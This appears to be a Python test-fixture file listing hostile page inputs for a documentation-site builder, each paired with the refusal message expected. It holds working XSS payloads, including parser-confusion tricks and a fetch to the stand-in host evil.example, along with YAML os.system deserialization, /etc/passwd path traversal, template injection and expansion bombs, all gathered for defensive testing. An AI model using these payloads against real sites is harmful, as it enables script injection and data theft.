"""Hostile pages: front matter, formulas and Markdown, as `corpus.py` lists them with all other files."""

from __future__ import annotations

import json

JS = "window.pwned=1;alert(1);fetch('https://evil.example/x')"
EVIL = "assets/evil.txt"
"""A file of words beside the pages, which a browser would run if a page named it as a script."""
OURS = "../assets/javascripts/copy-tex.js"
SETTINGS = json.dumps({
    "base": "..", "features": [], "search": f"../{EVIL}", "tags": None, "version": None, "annotate": None,
    "translations": dict.fromkeys(("clipboard.copied", "clipboard.copy", "search.result.none"), "x"),
})  # fmt: skip
"""Settings for the theme's script, by which its search would run a file of words as its worker."""


def front(text: str) -> str:
    return f"---\n{text}\n---\n# Title\n"


FRONT_MATTER = {
    "a Python object": (front("title: a\nx: !!python/object/apply:os.system [id]"), "not valid YAML", 3),
    "another Python object": (front("!!python/name:os.system"), "not valid YAML", 2),
    "an alias bomb": (front("a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]"), "alias *a is not allowed", 3),
    "a key given twice": (front("title: a\ntitle: b"), "key 'title' is given twice", 3),
    "10,000 brackets": (front("a: " + "[" * 8_000), "nested too deeply", 2),
    "90 kB": (front("a: " + "x" * 90_000), "front matter is larger than 8192 bytes", 1),
    "no end": ("---\ntitle: a\n", "never closed", 1),
    "a list": (front("- a"), "must be `key: value` lines", 2),
    "a key that is a list": (front("[a]: b"), "a key must be plain text", 2),
    "a date that cannot be": (front("date: 2026-02-31"), "names a day that does not exist", 2),
    "a file outside the course": (front("depends: [../../etc/passwd]"), "inside the project", 2),
    "a time without end": (front("timeout: .inf"), "`timeout` must be", 2),
    "a macro that is a bomb": (front(r"math_macros: {\a: '\a\a'}") + "\n$\\a$\n", "Too many expansions", 6),
    "a title that is a script": (
        front(f'title: "</title><script>{JS}</script>"'),
        "`title` must be words",
        2,
    ),
    "a description that is a script": (
        front("title: T\ndescription: '\"><script>window.pwned=1</script>'"),
        "`description` must be words",
        3,
    ),
    "a description that ends its attribute": (front("title: T\ndescription: '\" onload=\"pwned=1'"),),
    "a title that is a mapping": (front("title: {a: b}"), "`title` must be words", 2),
    "an author who is a script": (front(f'title: T\nauthors: ["<script>{JS}</script>"]'),),
    "a template of their own": (front("title: T\ntemplate: ../../../../etc/passwd"), "`template` must be", 3),
}

FORMULAS = {
    "a link that is a script": (r"\href{javascript:pwned=1}{x}", r"\href is refused", 3),
    "an address": (r"\url{javascript:pwned=1}", r"\url is refused", 3),
    "a foreign picture": (r"\includegraphics{//evil.example/p.png}", r"\includegraphics is refused", 3),
    "a foreign picture by its whole address": (r"\includegraphics{https://evil.example/p.png}",),
    "a style": (r"\htmlStyle{background:url(//evil.example)}{x}", r"\htmlStyle is refused", 3),
    "an attribute": (r"\htmlData{x=y}{x}", r"\htmlData is refused", 3),
    "an endless definition": (r"\def\a{\a\a}\a", "Too many expansions", 3),
    "2,400 braces in braces": ("{" * 2_400 + "}" * 2_400, "nested too deeply", 3),
    "40,000 letters": ("x" * 40_000, "more than 5000", 3),
    "a rule of 99999 em": (r"\rule{99999em}{99999em}", "99999em is refused", 3),
    "a rule by a macro": (r"\newcommand{\w}{99999em}\rule{\w}{\w}",),
    "HTML": (f"\\text{{<script>{JS}</script>}}",),
    "an event": (f'x < y > "onmouseover={JS}"',),
}

MARKDOWN = {
    "a script": (f"<script>{JS}</script>", "a script stands in the page", 3),
    "a script of a module": (f"<script type=module>{JS}</script>", "a script stands in the page", 3),
    "a script of another host": ("<script src=https://evil.example/x.js></script>", "another host", 3),
    "a script beside the page": ("<script src=code.js></script>", "lies outside", 3),
    "an event": (f'<img src="x.png" alt="x" onerror="{JS}">', "`onerror` on `<img>` runs a script", 3),
    "an event by attributes": ('[x](#title){: onclick="window.pwned=1" }', "`onclick` on `<a>`", 3),
    "a drawing with an event": ('<svg onload="window.pwned=1"></svg>', "`onload` on `<svg>`", 3),
    "a link that is a script": ("[x](javascript:window.pwned=1)", "`href` of `<a>` is a script", 3),
    "a link that is a document": ("<a href='data:text/html,<script>'>x</a>", "holds a document", 3),
    "another document": ("<iframe src='https://evil.example/'></iframe>", "`<iframe>` brings", 3),
    "a refresh": ('<meta http-equiv="refresh" content="0;url=//evil.example/">', "sends the reader away", 3),
    "another base": ("<base href='https://evil.example/'>", "`<base>` brings", 3),
    "a foreign picture": ("![x](https://evil.example/p.png)", "loads from another host", 3),
    "a foreign form": ("<form action='https://evil.example/'></form>", "loads from another host", 3),
    "a foreign style": ("<style>@import '//evil.example/x';</style>", "a style loads from another host", 3),
    "5,000 brackets": ("[" * 5_000, "thousands of brackets", 3),
    "5,000 links in links": ("[a](b " * 5_000, "thousands of brackets", 3),
    "10,000 open tags": ("<a b " * 10_000, "never closed by >", 3),
    "1,000 lists in lists": ("1. " * 1_000 + "a", "more than 50 lists", 3),
    "5,000 headings": ("# a\n\n" * 5_000, "more than 1000 headings", 2_001),
    "300 kB of words": (lambda: b"word word\n" * 30_000, "more than 200000, which this line passes", 20_002),
    "no UTF-8": (b"caf\xe9", "not UTF-8 text", 3),
    "a comment without end": ("<!-- x", "never closed", 3),
    "a file outside the course": ('--8<-- "../../../../etc/passwd"',),
    "a template's command": ("{{ config.__class__.__init__.__globals__ }} {% include '/etc/passwd' %}",),
    "a heading that is a script": (f"# &lt;script&gt;{JS}&lt;/script&gt;\n\n## `<script>{JS}</script>`",),
    "a script in a fence": (f"```html\n<script>{JS}</script>\n```",),
    "a script in a comment": (f"<!-- <script>{JS}</script> -->",),
    "a fence's language": ('```{ .x onload="window.pwned=1" }\nx\n```',),
    "a name of a heading": (f"## x {{: #a\"><script>{JS}</script> }}",),
    # a file of words, named so that it looks like a script of the site
    "a script in a query": (f"<script src='../{EVIL}?/assets/javascripts/x.js'></script>", "lies outside", 3),
    "a script in a fragment": (f"<script src='../{EVIL}#/assets/javascripts/'></script>", "lies outside", 3),
    "a script behind escaped dots": (
        f"<script src='../assets/javascripts/%2e%2e/%2e%2e/{EVIL}'></script>", "lies outside", 3,
    ),
    "a script behind backslashes": (
        r"<script src='../assets/javascripts/x\..\..\..\assets\evil.txt'></script>", "lies outside", 3,
    ),
    "a script of a drawing": (f"<svg><script href='../{EVIL}'></script></svg>", "lies outside", 3),
    "a drawing's second script": (
        f"<svg><script src='{OURS}' xlink:href='../{EVIL}'></script></svg>", "`xlink:href` of `<script>`", 3,
    ),
    "a script by a scheme alone": ("<script src='https:/evil.example/x'></script>", "another host", 3),
    # what one reader of HTML takes for words, and a browser does not
    "a script in marked words": (f"<![CDATA[><script src=../{EVIL}></script>x]]>", "lies outside", 3),
    "an event in marked words": (f"<div><![CDATA[><b onclick='{JS}'>x</b>]]></div>", "`onclick` on `<b>`", 3),
    "a script behind a comment": (f"<div><!--><script src=../{EVIL}></script>--></div>",),
    "a script behind a short comment": (f"<p><!---><script>{JS}</script>--></p>",),
    "a script in a title": (f"<title><p id='</title><script>{JS}</script>'></title>", "a script stands", 3),
    "a script for others": (
        f"<noscript><p title='</noscript><script>{JS}</script>'></p></noscript>", "`<noscript>` holds", 3,
    ),
    "a script in the shadows": (
        f"<div><template shadowrootmode='open'><script>{JS}</script></template></div>", "`<template>`", 3,
    ),
    # settings for the theme's script, before its own
    "settings in a block of data": (
        f'<script id="__config" type="application/json">{SETTINGS}</script>', "the name `__config`", 3,
    ),
    "settings in a paragraph": (f'<p id="__config" hidden>{SETTINGS}</p>', "the name `__config`", 3),
    "settings behind the end of the article": (
        f"</article></div></div></main></div><p id='__config'>{SETTINGS}</p>", "the name `__config`", 3,
    ),
    "a block of data": (f'<script type="application/json">{SETTINGS}</script>', "a block of data stands", 3),
    # addresses of other hosts
    "a style among translations": (
        "<link rel='alternate stylesheet' href='//evil.example/x.css'>", "another host", 3,
    ),
    "a style among licences": ("<link rel='license stylesheet' href='//evil.example/x'>", "another host", 3),
    "a picture by a scheme alone": ("<img alt='x' src='https:/evil.example/x'>", "another host", 3),
    "a foreign background": ("<table background='//evil.example/x'></table>", "another host", 3),
    "a foreign picture of another size": (
        "<link rel=preload as=image imagesrcset='//evil.example/x 2x'>", "another host", 3,
    ),
    "a foreign picture in a style": (
        "<p style=\"background:image-set('//evil.example/x' 1x)\">x</p>", "a style loads from another", 3,
    ),
    "a refresh behind a blank": ("<meta http-equiv=' refresh' content='0;url=//evil.example/'>", "away", 3),
    "a refresh in entities": (
        "<meta http-equiv='&#114;efresh' content='0;url=//evil.example/'>", "sends the reader away", 3,
    ),
    "a link that becomes a script": (
        "<svg><a><set attributeName='href' to='javascript:pwned=1'/><text>x</text></a></svg>", "`<set>`", 3,
    ),
    "a link to a drawing": ("<a href='data:image/svg+xml,<svg onload=x()>'>x</a>", "holds a document", 3),
    "a link in entities": ("[x](&#106;avascript:window.pwned=1)", "`href` of `<a>` is a script", 3),
    "a note's title": (f'!!! note "&lt;script&gt;{JS}&lt;/script&gt;"\n    x',),
}  # fmt: skip
